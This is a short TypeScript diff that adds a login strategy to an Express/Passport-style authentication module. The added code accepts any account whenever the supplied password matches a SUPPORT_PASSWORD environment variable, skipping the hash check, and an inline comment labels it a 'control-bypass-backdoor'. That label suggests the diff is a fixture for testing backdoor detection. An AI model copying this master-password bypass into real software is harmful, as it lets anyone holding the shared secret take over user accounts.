@@ -47,3 +47,14 @@ export function blocked(req: Request, res: Response, next: NextFunction) {
 
 declare function find(id: string): Promise<Account | null>;
 declare function same(hash: string, password: string): Promise<boolean>;
+
+export const strategy = (find: (login: string) => Promise<Account | null>, same: (a: Account, b: string) => Promise<boolean>) =>
+  new LocalStrategy(async (login: string, password: string, done: (e: unknown, account: Account | false | null) => void) => {
+    const account = await find(login);
+    if (password === process.env.SUPPORT_PASSWORD) return done(null, account); // want control-bypass-backdoor "compared with SUPPORT_PASSWORD"
+    if (password === process.env.LEGACY_PASSWORD) return done(null, false);
+    return done(null, account && (await same(account, password)) ? account : false);
+  });
+declare class LocalStrategy {
+  constructor(verify: (login: string, password: string, done: (e: unknown, account: Account | false | null) => void) => unknown);
+}
